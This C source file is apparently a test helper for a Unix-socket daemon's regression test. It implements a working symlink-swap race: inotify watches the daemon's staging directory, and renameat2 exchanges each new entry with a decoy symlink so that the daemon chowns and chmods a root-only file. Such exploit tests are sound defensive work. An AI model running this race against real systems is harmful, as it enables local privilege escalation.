/* The attack of issue 15, point 1, as an unprivileged user: whenever an entry whose name starts
 * with PREFIX appears in DIR (the daemon's private staging directory), exchange it with DECOY (a
 * directory of ours holding a symlink named like the socket, pointing at a root-only file) as
 * fast as possible, with renameat2(RENAME_EXCHANGE), so that a daemon working by path chowns and
 * chmods the symlink's target instead of its socket.
 *
 * Usage: swap DIR DECOY PREFIX. Prints "ready" once it watches, "swapped N" for each entry, and
 * exits when stdin closes or after the first entry that has disappeared. Compiled by the test
 * (tests/unix_socket.rs) with cc. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange(int dir, const char *a, const char *b) {
    return syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swap DIR DECOY PREFIX\n");
        return 2;
    }
    const char *prefix = argv[3];
    int dir = open(argv[1], O_DIRECTORY | O_RDONLY);
    int watch = inotify_init1(0);
    if (dir < 0 || watch < 0 || inotify_add_watch(watch, argv[1], IN_CREATE) < 0) {
        perror("swap: watching");
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
    struct pollfd fds[2] = {{watch, POLLIN, 0}, {0, POLLIN, 0}};
    for (;;) {
        if (poll(fds, 2, -1) < 0 || (fds[1].revents & (POLLIN | POLLHUP)))
            return 0;
        ssize_t len = read(watch, buf, sizeof buf);
        if (len <= 0)
            return 1;
        for (char *p = buf; p < buf + len;) {
            struct inotify_event *event = (struct inotify_event *)p;
            p += sizeof *event + event->len;
            if (event->len == 0 || strncmp(event->name, prefix, strlen(prefix)) != 0)
                continue;
            long swaps = 0;
            /* Until the daemon removes its directory (or 2 million swaps, a few seconds). */
            while (swaps < 2000000 && exchange(dir, event->name, argv[2]) == 0)
                swaps++;
            /* An odd count leaves the decoy under the staging name: put it back. */
            if (swaps % 2 == 1)
                exchange(dir, event->name, argv[2]);
            printf("swapped %ld\n", swaps);
            fflush(stdout);
        }
    }
}
